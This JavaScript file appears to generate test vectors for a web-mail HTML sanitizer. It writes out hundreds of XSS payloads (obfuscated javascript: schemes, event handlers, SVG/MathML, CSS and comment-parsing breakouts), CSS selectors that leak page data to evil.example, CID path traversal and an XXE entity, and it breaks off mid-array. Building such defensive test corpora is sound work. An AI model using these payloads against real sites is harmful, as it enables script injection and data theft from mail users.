// Vectors made at test time, class by class, for the sources whose licence
// does not let us keep their text (the HTML5 Security Cheatsheet, the mXSS
// cheatsheet) and for the classes that broke web-mail cleaners in recent
// years. Every vector is a template of our own; nothing here is copied.
//
// Each generator returns [{ id, html }] or [{ id, text }] (text: a plain-text
// part, for the view that turns addresses into links). Every vector that
// would act calls alert(1) or loads from evil.example, so the browser test
// sees it act.

const EVIL = 'http://evil.example';
const XSS = 'alert(1)';
const IMG = `<img src=x onerror=${XSS}>`;

function named(prefix, list) {
  return list.map((v, i) => ({ id: `${prefix}-${i + 1}`, ...(typeof v === 'string' ? { html: v } : v) }));
}

// Ways to spell a script scheme that some parser along the way reads as the
// scheme itself: references with and without ";", padding, hex case, named
// references, blanks and controls inside or in front.
function schemeSpellings(scheme) {
  const chars = [...`${scheme}:`];
  const enc = (f) => chars.map(f).join('');
  const code = (c) => c.charCodeAt(0);
  const out = [
    `${scheme}:`,
    enc((c, i) => (i % 2 ? c.toUpperCase() : c)),
    enc((c) => `&#${code(c)};`),
    enc((c) => `&#${code(c)}`),
    enc((c) => `&#000000${code(c)}`),
    enc((c) => `&#x${code(c).toString(16)};`),
    enc((c) => `&#X${code(c).toString(16).toUpperCase()}`),
    enc((c) => `&#x0000${code(c).toString(16)}`),
    `${scheme}&colon;`,
    `${scheme}&#58;`,
    `${scheme}&#x3a`,
    `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}\t${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}\n${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}\r${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}&#9;${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}&#x0A;${scheme.slice(3)}:`,
    `${scheme.slice(0, 3)}\0${scheme.slice(3)}:`,
    ` \x01\x02\x0b\x1f${scheme}:`,
    `&#14;${scheme}:`,
    `&#0;${scheme}:`,
    `&#x20;${scheme}:`,
    `\x7f${scheme}:`,
    `&Tab;&NewLine;${scheme}&colon;`,
  ];
  return [...new Set(out)];
}

const SCHEME_BODY = { javascript: XSS, vbscript: 'msgbox(1)', data: 'text/html,<script>alert(1)</script>' };

// The places where a URL acts without a script element.
const URL_CONTEXTS = [
  (u) => `<a href="${u}">click</a>`,
  (u) => `<a href=${u.replace(/[ "'>]/g, '')}>click</a>`,
  (u) => `<area href="${u}">`,
  (u) => `<img src="${u}">`,
  (u) => `<table background="${u}"><tr><td>x</td></tr></table>`,
  (u) => `<form action="${u}"><input type=submit></form>`,
  (u) => `<button formaction="${u}">go</button>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<base href="${u}//"><a href="/x">rel</a>`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
  (u) => `<svg><a href="${u}"><text y=20>click</text></a></svg>`,
  (u) => `<math href="${u}">click</math>`,
  (u) => `<div style="background:url('${u}')">x</div>`,
];

function obfuscatedSchemes() {
  const out = [];
  for (const scheme of ['javascript', 'vbscript', 'data']) {
    const spellings = schemeSpellings(scheme);
    spellings.forEach((s, i) => {
      // Every spelling in the two link contexts, a rotating few elsewhere.
      const contexts = [URL_CONTEXTS[0], URL_CONTEXTS[1], URL_CONTEXTS[2 + (i % (URL_CONTEXTS.length - 2))]];
      for (const ctx of contexts) out.push(ctx(s + SCHEME_BODY[scheme]));
    });
  }
  return out;
}

// Handler names old and new; the shapes put one on an element that fires
// it unprompted, or behind separators that some tokenisers miss.
const HANDLERS = [
  'onabort', 'onactivate', 'onafterprint', 'onanimationend', 'onanimationiteration', 'onanimationstart',
  'onauxclick', 'onbeforecopy', 'onbeforeinput', 'onbeforeprint', 'onbeforetoggle', 'onbeforeunload',
  'onbegin', 'onblur', 'oncanplay', 'onchange', 'onclick', 'oncontextmenu', 'oncontentvisibilityautostatechange',
  'oncopy', 'oncut', 'ondblclick', 'ondrag', 'ondrop', 'onend', 'onerror', 'onfocus', 'onfocusin',
  'onfocusout', 'onformdata', 'onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onload',
  'onloadstart', 'onmessage', 'onmousedown', 'onmouseenter', 'onmouseover', 'onpageshow', 'onpaste',
  'onpointerdown', 'onpointerenter', 'onpointerover', 'onpopstate', 'onrepeat', 'onresize', 'onscroll',
  'onscrollend', 'onsearch', 'onselectionchange', 'onselectstart', 'onstart', 'ontoggle',
  'ontransitionend', 'ontransitionrun', 'onunhandledrejection', 'onwebkitanimationstart', 'onwheel',
];

function eventHandlers() {
  const out = [];
  HANDLERS.forEach((h, i) => {
    const shapes = [
      `<x ${h}=${XSS}>x</x>`,
      `<img src=x ${h}="${XSS}">`,
      `<div/${h}=${XSS}>x</div>`,
      `<p title="a"${h}=${XSS}>x</p>`,
      `<b\f${h.toUpperCase()}=${XSS}>x</b>`,
      `<i ${h}\t=\t${XSS}>x</i>`,
    ];
    out.push(shapes[i % shapes.length], shapes[(i + 3) % shapes.length]);
  });
  // Elements that fire their handler with nobody touching the page.
  out.push(
    `<img src=x onerror=${XSS}>`,
    `<image src=x onerror=${XSS}>`,
    `<body onload=${XSS}>`,
    `<body onpageshow=${XSS}>`,
    `<svg onload=${XSS}>`,
    `<input autofocus onfocus=${XSS}>`,
    `<div contenteditable autofocus onfocus=${XSS}>x</div>`,
    `<a id=x tabindex=1 autofocus onfocusin=${XSS}>x</a>`,
    `<details open ontoggle=${XSS}>x</details>`,
    `<p popover id=p1 onbeforetoggle=${XSS}>x</p>`,
    `<style>@keyframes k{from{color:red}}</style><div style="animation:k 1ms" onanimationstart=${XSS}>x</div>`,
    `<div style="transition:color 1ms" ontransitionrun=${XSS}>x</div>`,
    `<video><source onerror=${XSS}></video>`,
    `<audio src onloadstart=${XSS}>`,
    `<marquee onstart=${XSS}>x</marquee>`,
    `<div style="overflow:auto;height:10px" onscroll=${XSS}><br><br><br><br>x</div>`,
    `<img src=x onerror\0=${XSS}>`,
    `<img src=x o\0nerror=${XSS}>`,
    `<img src=x onerror =${XSS}>`,
    `<img src=x\nonerror=${XSS}>`,
    `<img src=x\ronerror=${XSS}>`,
    `<img src="x"onerror="${XSS}">`,
    `<img src='x'onerror='${XSS}'>`,
    `<img src=x onerror=&#97;lert(1)>`,
    `<img src=x onerror="\u0061lert(1)">`,
    `<img src=x:x onerror=${XSS} onerror=${XSS}>`,
    `<img """ src=x onerror=${XSS}>`,
    `<img src=x =onerror=${XSS}>`,
    `<img src=x "onerror=${XSS}>`,
    `<img src=x 'onerror=${XSS}>`,
    `<img src=x /onerror=${XSS}>`,
    `<img/src=x/onerror=${XSS}>`,
  );
  return out;
}

// Foreign content: elements and attributes that only exist inside svg or
// math, animations that write href, style or handlers, and documents pulled
// in through use/image/feImage.
function svgMath() {
  const svgDoc = `<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${XSS}'/></svg>`;
  const b64 = Buffer.from(svgDoc).toString('base64');
  const out = [
    `<svg><use href="data:image/svg+xml,${encodeURIComponent(svgDoc)}#x"/></svg>`,
    `<svg><use xlink:href="data:image/svg+xml;base64,${b64}#x"></use></svg>`,
    `<svg><use href="${EVIL}/s.svg#x"/></svg>`,
    `<svg><image href="${EVIL}/i.svg"/></svg>`,
    `<svg><feImage href="data:image/svg+xml;base64,${b64}"/></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${XSS}"/><text x=20 y=20>click</text></a></svg>`,
    `<svg><a><set attributeName=href to="javascript:${XSS}"/><text y=20>click</text></a></svg>`,
    `<svg><a xlink:href="#"><animate attributeName="xlink:href" begin=0 from="javascript:${XSS}" to="&"/><rect width=99 height=99 /></a></svg>`,
    `<svg><rect width=9 height=9><animate attributeName=fill values="url(${EVIL}/f.svg#a)" dur=1s /></rect></svg>`,
    `<svg><rect width=9 height=9><set attributeName=style to="background:url(${EVIL}/a.png)"/></rect></svg>`,
    `<svg><rect><set attributeName=onmouseover to=${XSS} /></rect></svg>`,
    `<svg><animate onbegin=${XSS} attributeName=x dur=1s>`,
    `<svg><set onbegin=${XSS} attributename=x to=1>`,
    `<svg><animate attributeName=onload values=${XSS} />`,
    `<svg><animatetransform onbegin=${XSS} attributeName=transform>`,
    `<svg><discard onbegin=${XSS}>`,
    `<svg><script>${XSS}</script></svg>`,
    `<svg><script href="data:,${XSS}"/></svg>`,
    `<svg><script xlink:href="data:,${XSS}"></script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${XSS}"/>`,
    `<svg><foreignObject><img src=x onerror=${XSS}></foreignObject></svg>`,
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${XSS}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    `<svg><desc><img src=x onerror=${XSS}></desc></svg>`,
    `<svg><title><img src=x onerror=${XSS}></title></svg>`,
    `<svg><style>@import "${EVIL}/x.css";</style></svg>`,
    `<svg><style><img src=x onerror=${XSS}></style></svg>`,
    `<svg><style>&lt;img src=x onerror=${XSS}&gt;</style></svg>`,
    `<svg><a xlink:href="javascript:${XSS}"><rect width=100 height=100 /></a></svg>`,
    `<svg><image xlink:href="x" onerror=${XSS} />`,
    `<svg><image href=x onerror=${XSS}>`,
    `<svg><![CDATA[><img src=x onerror=${XSS}>]]></svg>`,
    `<svg><![CDATA[</svg><img src=x onerror=${XSS}>]]>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${XSS}">click</maction></math>`,
    `<math href="javascript:${XSS}">click</math>`,
    `<math><mi xlink:href="data:x,<script>${XSS}</script>">x</mi></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${XSS}></annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror=${XSS}></style></svg></annotation-xml></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${XSS}></style></mglyph></table></mtext></math>`,
    `<svg:svg><svg:script>${XSS}</svg:script></svg:svg>`,
    `<x:svg xmlns:x="http://www.w3.org/2000/svg" onload=${XSS}>`,
    `<SVG ONLOAD=${XSS}>`,
    `<svg\fonload=${XSS}>`,
    `<svg/onload=${XSS}//`,
  ];
  return out;
}

// Style sheets and style attributes: every way a sheet loads, runs or
// reads the page.
function css() {
  const out = [
    `<div style="background:url(javascript:${XSS})">x</div>`,
    `<div style="background:url('javascript:${XSS}')">x</div>`,
    `<div style='background:url("javascript:${XSS}")'>x</div>`,
    `<div style="background:url( javascript:${XSS} )">x</div>`,
    `<div style="background:url(&quot;javascript:${XSS}&quot;)">x</div>`,
    `<div style="background:url(&#x6A;avascript:${XSS})">x</div>`,
    `<div style="background:url(java&#x09;script:${XSS})">x</div>`,
    `<div style="background:url(data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)">x</div>`,
    `<div style="background:URL(vbscript:msgbox(1))">x</div>`,
    `<div style="background:u\\72l(javascript:${XSS})">x</div>`,
    `<div style="background:\\75rl(javascript:${XSS})">x</div>`,
    `<div style="x:\\65xpression(${XSS})">x</div>`,
    `<div style="x:expression(${XSS})">x</div>`,
    `<div style="x:exp/**/ression(${XSS})">x</div>`,
    `<div style="x:expr&#x65;ssion(${XSS})">x</div>`,
    `<div style="x:ｅｘｐｒｅｓｓｉｏｎ(${XSS})">x</div>`,
    `<div style="behavior:url(#default#time2)" onbegin=${XSS}>x</div>`,
    `<div style="-moz-binding:url(${EVIL}/x.xml#x)">x</div>`,
    `<div style="--u:url(//evil.example/v.png);background:var(--u)">x</div>`,
    `<div style="--u:url(javascript:${XSS});background-image:var(--u)">x</div>`,
    `<div style="--s:'${EVIL}/v.png';background-image:image-set(var(--s) 1x)">x</div>`,
    `<div style="background-image:image-set('${EVIL}/i.png' 1x)">x</div>`,
    `<div style="background-image:-webkit-image-set('${EVIL}/i.png' 1x)">x</div>`,
    `<div style="background:url(//evil.example/p.png)">x</div>`,
    `<div style="background:url(${EVIL}/a.png" onmouseover="${XSS})">x</div>`,
    `<div style="font-family:'a;background:url(javascript:${XSS})'">x</div>`,
    `<div style="font-family:&quot;a&quot;;x:expression(${XSS})">x</div>`,
    `<div style="color:red;}</style><img src=x onerror=${XSS}><style>{">x</div>`,
    `<div style="background:url(&apos;javascript:${XSS}&apos;)">x</div>`,
    `<p style="color:red" style="background:url(javascript:${XSS})">x</p>`,
    `<style>@import "${EVIL}/x.css";</style>`,
    `<style>@import url(${EVIL}/x.css);</style>`,
    `<style>@import'${EVIL}/x.css';</style>`,
    `<style>@\\69mport "${EVIL}/x.css";</style>`,
    `<style>@im/**/port "${EVIL}/x.css";</style>`,
    `<style>@IMPORT "${EVIL}/x.css";</style>`,
    `<style>@font-face{font-family:f;src:url(${EVIL}/f.woff)}p{font-family:f}</style><p>x</p>`,
    `<style>@font-face{font-family:f;src:local(x),url('${EVIL}/f.ttf') format('truetype')}body{font-family:f}</style>`,
    `<style>body{background:url(javascript:${XSS})}</style>`,
    `<style>body{background:url("javascript:${XSS}")}</style>`,
    `<style>body{background:url(\\6a avascript:${XSS})}</style>`,
    `<style>body{x:expression(${XSS})}</style>`,
    `<style>*{behavior:url(x.htc)}</style>`,
    `<style>*{-moz-binding:url(${EVIL}/x.xml#x)}</style>`,
    `<style>*{background-image:image-set("${EVIL}/a.png" 1x)}</style>`,
    `<style>li{list-style:url(javascript:${XSS})}</style><ul><li>x</li></ul>`,
    `<style>*{cursor:url(data:image/svg+xml,%3Csvg%20onload=alert(1)%3E),auto}</style>`,
    `<style>:root{--u:url(javascript:${XSS})}body{background:var(--u)}</style>`,
    `<style>p{background:url(${EVIL}/a.png</style><img src=x onerror=${XSS}>)}</style>`,
    `<style></style ><img src=x onerror=${XSS}></style>`,
    `<style></styleX><img src=x onerror=${XSS}></style>`,
    `<style><!--</style><img src=x onerror=${XSS}>--></style>`,
    `<style>/*</style><img src=x onerror=${XSS}>*/</style>`,
    `<style>a{content:"</style><img src=x onerror=${XSS}>"}</style>`,
    `<style>@charset "utf-7";+ADw-img src=x onerror=alert(1)+AD4-</style>`,
    `<style media="screen" onload=${XSS}>p{}</style>`,
    // Selectors that test the gateway's own attributes (its links carry the
    // login) and leak the answer through a load.
    `<style>a[href*="check="]{background:url(${EVIL}/leak.png)}</style>`,
    `<style>a[href^="/mail/index.html?user="]{list-style-image:url(${EVIL}/leak.png);display:list-item}</style>`,
    `<style>body:has(a[href*="check=1"]) p.m{background:url(${EVIL}/leak1.png)}</style><p class=m>x</p>`,
    `<style>input[name=send_to][value*="@"]{background:url(${EVIL}/leak.png)}</style>`,
    `<style>form[action*="check="]{background:url(${EVIL}/leak.png)}</style>`,
    `<style>textarea:not(:placeholder-shown)~*{}[name="message"]{background:url(${EVIL}/leak.png)}</style>`,
  ];
  return out;
}

// Elements whose content the browser reads as text (or not at all), each
// with markup inside that acts if the cleaner and the browser disagree on
// where the text ends.
const RAW = ['title', 'textarea', 'style', 'xmp', 'noembed', 'noframes', 'iframe', 'noscript',
  'plaintext', 'script', 'template', 'select', 'option', 'listing', 'pre', 'comment'];

function rawText() {
  const out = [];
  for (const t of RAW) {
    out.push(
      `<${t}><p title="</${t}>${IMG}"></p></${t}>`,
      `<${t}>${IMG}</${t}>`,
      `<${t}></${t}>${IMG}`,
      `<${t}><a title="</${t}><img src onerror=${XSS}>"></a>`,
      `<${t.toUpperCase()}>x</${t.toUpperCase()} ><img src=x onerror=${XSS}>`,
      `<${t}>&lt;/${t}&gt;&lt;img src=x onerror=${XSS}&gt;</${t}>`,
      `<${t}><!--</${t}>${IMG}--></${t}>`,
      `<${t}></${t}\0>${IMG}</${t}>`,
    );
  }
  out.push(
    `<noscript><style></noscript><img src=x onerror=${XSS}></style></noscript>`,
    `<noscript><p title="</noscript><img src=x onerror=${XSS}>"></p></noscript>`,
    `<noframes><style></noframes><img src=x onerror=${XSS}></style></noframes>`,
    `<noembed><style></noembed><img src=x onerror=${XSS}></style></noembed>`,
    `<xmp><p title="</xmp><svg/onload=${XSS}>">`,
    `<textarea><!-- </textarea><img src=x onerror=${XSS}> --></textarea>`,
    `<title><!--</title><img src=x onerror=${XSS}>--></title>`,
    `<iframe><img title="</iframe><img src=x onerror=${XSS}>"></iframe>`,
    `<table><plaintext>${IMG}</plaintext></table>`,
    `<select><style><img src=x onerror=${XSS}></style></select>`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${XSS}>">`,
    `<template><img src=x onerror=${XSS}></template>`,
    `<template><style></template><img src=x onerror=${XSS}></style></template>`,
    `<listing>&lt;img src=1 onerror=${XSS}&gt;</listing>`,
    `<pre>\n&lt;img src=1 onerror=${XSS}&gt;</pre>`,
    `<style><style/><img src=x onerror=${XSS}>`,
    `<style>p{}</style\t/x><img src=x onerror=${XSS}>`,
    `<title>x</title/><img src=x onerror=${XSS}>`,
    `<textarea/><img src=x onerror=${XSS}>`,
  );
  return out;
}

// Comments, doctypes and processing instructions in every spelling the
// HTML tokeniser ends early or late.
function comments() {
  return [
    `<!--><img src=x onerror=${XSS}>-->`,
    `<!---><img src=x onerror=${XSS}>-->`,
    `<!-- --!><img src=x onerror=${XSS}>`,
    `<!-- --!-><img src=x onerror=${XSS}>-->`,
    `<!----!><img src=x onerror=${XSS}>`,
    `<!-- -- --><img src=x onerror=${XSS}>`,
    `<!--<!--><img src=x onerror=${XSS}>-->`,
    `<!-- <img title="--><img src=x onerror=${XSS}>">`,
    `<!--<img src="--><img src=x onerror=${XSS}//">`,
    `<! --><img src=x onerror=${XSS}>-->`,
    `<!- -><img src=x onerror=${XSS}>`,
    `<!><img src=x onerror=${XSS}>`,
    `<? ><img src=x onerror=${XSS}>?>`,
    `<?x --><img src=x onerror=${XSS}> ?>`,
    `<?xml version="1.0"?><img src=x onerror=${XSS}>`,
    `<?xml-stylesheet href="javascript:${XSS}"?><root/>`,
    `</ x><img src=x onerror=${XSS}>`,
    `</x y="><img src=x onerror=${XSS}>">`,
    `</><img src=x onerror=${XSS}>`,
    `</ foo="><script>${XSS}</script>">`,
    `<! foo="><script>${XSS}</script>">`,
    `<? foo="><script>${XSS}</script>">`,
    `<![CDATA[><img src=x onerror=${XSS}>]]>`,
    `<!--[if IE]><img src=x onerror=${XSS}><![endif]-->`,
    `<!--[if gte IE 4]><script>${XSS}</script><![endif]-->`,
    `<![if !IE]><img src=x onerror=${XSS}><![endif]>`,
    `<!DOCTYPE HTML SYSTEM "><img src=x onerror=${XSS}>">`,
    `<!DOCTYPE x [<!ENTITY x "<img src=x onerror=${XSS}>">]><p>&x;</p>`,
    `<img<!-- --> src=x onerror=${XSS}>`,
    `<im<!--x-->g src=x onerror=${XSS}>`,
    `<img src=x onerror=${XSS}<!--`,
    `<!--\0--><img src=x onerror=${XSS}>`,
    `<!--x--\0><img src=x onerror=${XSS}>-->`,
    `<%<img src=x onerror=${XSS}>%>`,
    `<% foo><x foo="%><script>${XSS}</script>">`,
  ];
}

// Page-level elements: base, meta, forms, frames, plugins, links and the
// elements that hand the document to something else.
function pageLevel() {
  return [
    `<base href="javascript:${XSS}//"><a href="x">rel</a>`,
    `<base href="${EVIL}/"><img src="p.png"><a href="x">rel</a>`,
    `<base target="_top" href="//evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
    `<meta http-equiv="refresh" content="0; URL=javascript:${XSS}">`,
    `<meta http-equiv="Refresh" content="0;url=data:text/html,%3Cscript%3E${XSS}%3C/script%3E">`,
    `<meta http-equiv=" refresh " content="0;${EVIL}/">`,
    `<meta content="0;url=${EVIL}/" http-equiv="refresh">`,
    `<meta http-equiv="&#114;efresh" content="0;url=${EVIL}/">`,
    `<meta http-equiv="set-cookie" content="a=b">`,
    `<meta http-equiv="content-security-policy" content="script-src *">`,
    `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel=dns-prefetch href=//evil.example>`,
    `<meta name="referrer" content="unsafe-url"><a href="${EVIL}/">x</a>`,
    `<meta http-equiv="content-type" content="text/html; charset=utf-7">+ADw-img src=x onerror=alert(1)+AD4-`,
    `<meta charset="x-imap4-modified-utf7">&ADw-img src=x onerror=alert(1)&AD4-`,
    `<link rel=stylesheet href="${EVIL}/x.css">`,
    `<link rel=preload as=image href="${EVIL}/x.png">`,
    `<link rel=prefetch href="${EVIL}/x">`,
    `<link rel=import href="${EVIL}/x.html">`,
    `<link rel=icon href="${EVIL}/favicon.ico">`,
    `<form action="${EVIL}/"><input name=q value=x><input type=submit></form>`,
    `<form id=f></form><button form=f formaction="javascript:${XSS}">x</button>`,
    `<input form=mail name=send_to value="victim@evil.example">`,
    `<button form=mail formaction="${EVIL}/" type=submit>x</button>`,
    `<isindex action="javascript:${XSS}" type=image>`,
    `<iframe srcdoc="&lt;img src=x onerror=${XSS}&gt;"></iframe>`,
    `<iframe srcdoc="<script>${XSS}</script>"></iframe>`,
    `<iframe src="${EVIL}/"></iframe>`,
    `<iframe src="data:text/html,<script>${XSS}</script>"></iframe>`,
    `<frameset onload=${XSS}><frame src="${EVIL}/"></frameset>`,
    `<object data="${EVIL}/x.swf" type="application/x-shockwave-flash"></object>`,
    `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
    `<embed src="${EVIL}/x.svg" type="image/svg+xml">`,
    `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">`,
    `<applet code="x.class" codebase="${EVIL}/"></applet>`,
    `<portal src="${EVIL}/"></portal>`,
    `<fencedframe src="${EVIL}/"></fencedframe>`,
    `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4"></video>`,
    `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
    `<picture><source srcset="${EVIL}/a.png"><img src=x></picture>`,
    `<img srcset="${EVIL}/a.png 1x">`,
    `<img src=x usemap="#m"><map name=m><area shape=default href="javascript:${XSS}"></map>`,
    `<a href="${EVIL}/" ping="${EVIL}/ping">x</a>`,
    `<a href="http://ok.example/" target=_blank>x</a>`,
    `<body background="javascript:${XSS}">`,
    `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect href="javascript:${XSS}">`,
    `<div id=mail><a name=send_to>x</a></div>`,
    // Content-ID references become paths of the gateway; they must stay in
    // the user's own attachment folder.
    `<img src="cid:../../logout/index.html">`,
    `<img src="cid:..%2f..%2fmail%2flogout%2findex.html">`,
    `<img src="cid:%2e%2e/%2e%2e/index.html?delete=a1">`,
    `<td background="cid:../../../mail/index.html">x</td>`,
    `<style>p{background:url(cid:../../setup/index.html)}</style><p>x</p>`,
    `<img src='cid:x" onerror="${XSS}'>`,
    `<img src="cid:x%22%20onerror%3D${XSS}">`,
    `<a href="x"><img name="getElementById"></a>`,
  ];
}

// Plain text that the page turns into links: a URL or address must never
// take a quote, a "<" or a script scheme into the markup it becomes.
function plainTextLinks() {
  const texts = [
    `see http://example.com/"onmouseover="${XSS}" now`,
    `see http://example.com/'onmouseover='${XSS}' now`,
    `http://example.com/<img src=x onerror=${XSS}>`,
    `http://example.com/"><img src=x onerror=${XSS}>`,
    `http://example.com/&quot;onmouseover=${XSS}//`,
    `http://example.com/&#34;><img src=x onerror=${XSS}>`,
    `http://example.com/%22onmouseover=${XSS}`,
    `http://example.com/?a=1&b=2"><script>${XSS}</script>`,
    `http://example.com/#"><svg onload=${XSS}>`,
    `ftp://example.com/"><svg onload=${XSS}>`,
    `javascript:${XSS}`,
    `JavaScript://%0a${XSS}`,
    `javascript://example.com/%0a${XSS}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${XSS}</script>`,
    `mailto:a@example.com?body=<script>${XSS}</script>`,
    `a@example.com"onmouseover="${XSS}`,
    `a@example.com/"><img src=x onerror=${XSS}>`,
    `"a@example.com?x=<img src=x onerror=${XSS}>`,
    `http://a@evil.example/"x=<img src=x onerror=${XSS}>`,
    `http://example.com/\x1b$B"\x1b(Bonmouseover=${XSS}`,
    `http://example.com/\x0e<img src=x onerror=${XSS}>\x0f`,
    `http://example.com/\x81"onmouseover=${XSS}`,
    `http://example.com/${'a'.repeat(5000)}"onmouseover=${XSS}`,
    `<a href="javascript:${XSS}">not markup</a>`,
    `&lt;img src=x onerror=${XSS}&gt; &#60;svg onload=${XSS}&#62;`,
    `http://ex&#97;mple.com/ and &#104;ttp://example.com/"><img src=x onerror=${XSS}>`,
    // The reply form quotes the text inside its text area.
    `</textarea><img src=x onerror=${XSS}>`,
    `</TEXTAREA ><script>${XSS}</script>`,
    `</textarea\t/x><svg onload=${XSS}>`,
    `&lt;/textarea&gt;<img src=x onerror=${XSS}>`,
    `\x1b$B</textarea>\x1b(B<img src=x onerror=${XSS}>`,
  ];
  return texts.map((text) => ({ text }));
}

// Header fields the page shows (title, subject line, sender link, reply
// form), raw and as encoded words.
function headerFields() {
  const word = (charset, text) => `=?${charset}?B?${Buffer.from(text, 'latin1').toString('base64')}?=`;
  const breakout = `</title></textarea>"><img src=x onerror=${XSS}>`;
  return [
    { subject: `</title><script>${XSS}</script>` },
    { subject: `"><img src=x onerror=${XSS}>` },
    { subject: word('UTF-8', breakout) },
    { subject: `=?us-ascii?Q?=3C/title=3E=3Cimg_src=3Dx_onerror=3D${XSS}=3E?=` },
    { subject: word('ISO-2022-JP', `\x1b$B$"\x1b(B${breakout}`) },
    { subject: word('ISO-2022-JP', `\x1b$B$"${breakout}`) },
    { from: `"<img src=x onerror=${XSS}>" <a@evil.example>` },
    { from: `a@evil.example"onmouseover="${XSS}` },
    { from: `${word('UTF-8', breakout)} <x@evil.example>` },
    { from: `<javascript:${XSS}@evil.example>` },
    { from: `x@evil.example?"><svg onload=${XSS}>` },
  ];
}

// The HTML5 Security Cheatsheet's classes, from our own templates: forms
// reached from outside, charsets that redefine "<", old engines' style
// features, XML islands and namespaces, and characters that some parser
// takes for a blank.
function h5scClasses() {
  const out = [
    `<form id="test"></form><button form="test" formaction="javascript:${XSS}">X</button>`,
    `<input onfocus=${XSS} autofocus>`,
    `<input onblur=${XSS} autofocus><input autofocus>`,
    `<a style="-o-link:'javascript:${XSS}';-o-link-source:current">X</a>`,
    `<video poster=javascript:${XSS}//></video>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:${XSS}"></g></svg>`,
    `<body onscroll=${XSS}><br><br><br><br><br><br><br><br><br><br><br><br><input autofocus>`,
    `<x repeat="template" repeat-start="999999">0<y repeat="template" repeat-start="999999">1</y></x>`,
    `<x style="behavior:url(#default#time2)" onbegin="${XSS}">`,
    `<?xml-stylesheet href="javascript:${XSS}"?><root/>`,
    `<script xmlns="http://www.w3.org/1999/xhtml">&#x61;l&#x65;rt&#40;1)</script>`,
    `<meta charset="x-mac-farsi">\u00bcscript \u00be${XSS}//\u00bc/script \u00be`,
    `<x:set xmlns:x="urn:schemas-microsoft-com:time" style="beh&#x41;vior:url(#default#time2)" attributename="innerhtml" to="&lt;img/src=&quot;x&quot;onerror=${XSS}&gt;">`,
    `<script src="#">{${XSS}}</script>;1`,
    `+ADw-img src=x onerror=alert(1)+AD4-`,
    `<style>p[foo=bar{}*{-o-link:'javascript:${XSS}'}{}*{-o-link-source:current}]{color:red};</style>`,
    `<link rel=stylesheet href="data:,*%7bx:expression(${XSS})%7d">`,
    `<style>@import "data:,*%7bx:expression(${XSS})%7D";</style>`,
    `<frameset onload=${XSS}>`,
    `<table background="javascript:${XSS}"></table>`,
    `<a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="${XSS};">XXX</a></a><a href="javascript:${XSS}">XXX</a>`,
    `<v:line xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" href="javascript:${XSS}" />`,
    `<a style="behavior:url(#default#AnchorClick);" folder="javascript:${XSS}">XXX</a>`,
    `<comment><img src="</comment><img src=x onerror=${XSS}//">`,
    `<![><img src="]><img src=x onerror=${XSS}//">`,
    `<style><img src="</style><img src=x onerror=${XSS}//">`,
    `<li style=list-style:url() onerror=${XSS}></li>`,
    `<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=${XSS}></div>`,
    `<head><base href="javascript://"/></head><body><a href="/. /,${XSS}//#">XXX</a></body>`,
    `<style type="text/css">@font-face {font-family: y; src: url("${EVIL}/font.svg#x") format("svg");} body {font: 100px "y";}</style>`,
    `<style>*[{}@import'${EVIL}/test.css?]{color: green;}</style>X`,
    `<div style="font-family:'foo[a];color:red;';">XXX</div>`,
    `<div style="font-family:foo}color=red;">XXX</div>`,
    `<SCRIPT FOR=document EVENT=onreadystatechange>${XSS}</SCRIPT>`,
    `<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:${XSS}"></OBJECT>`,
    `<x style="behavior:url(test.sct)">`,
    `<xml id="xss" src="test.htc"></xml><label dataformatas="html" datasrc="#xss" datafld="payload"></label>`,
    `<b <script>${XSS}//</script>0</script></b>`,
    `<b><script<b></b><${XSS}</script </b></b>`,
    `<div id="div1"><input value="\`\`onmouseover=${XSS}"></div>`,
    `<div style="\\63&#9\\06f&#10\\0006c&#12\\00006F&#13\\R:\\000072 Ed;color\\0\\bla:yellow\\0\\bla;col\\0\\00 \\&#xA0or:blue;">XXX</div>`,
    `<x '="foo"><x foo='><img src=x onerror=${XSS}//'>`,
    `<! '="foo"><x foo='><img src=x onerror=${XSS}//'>`,
    `<? '="foo"><x foo='><img src=x onerror=${XSS}//'>`,
    `<embed src="javascript:${XSS}"></embed>`,
    `<image src="javascript:${XSS}">`,
    `<!DOCTYPE x[<!ENTITY x SYSTEM "${EVIL}/test.xxe">]><y>&x;</y>`,
    `<svg onload="javascript:${XSS}" xmlns="http://www.w3.org/2000/svg"></svg>`,
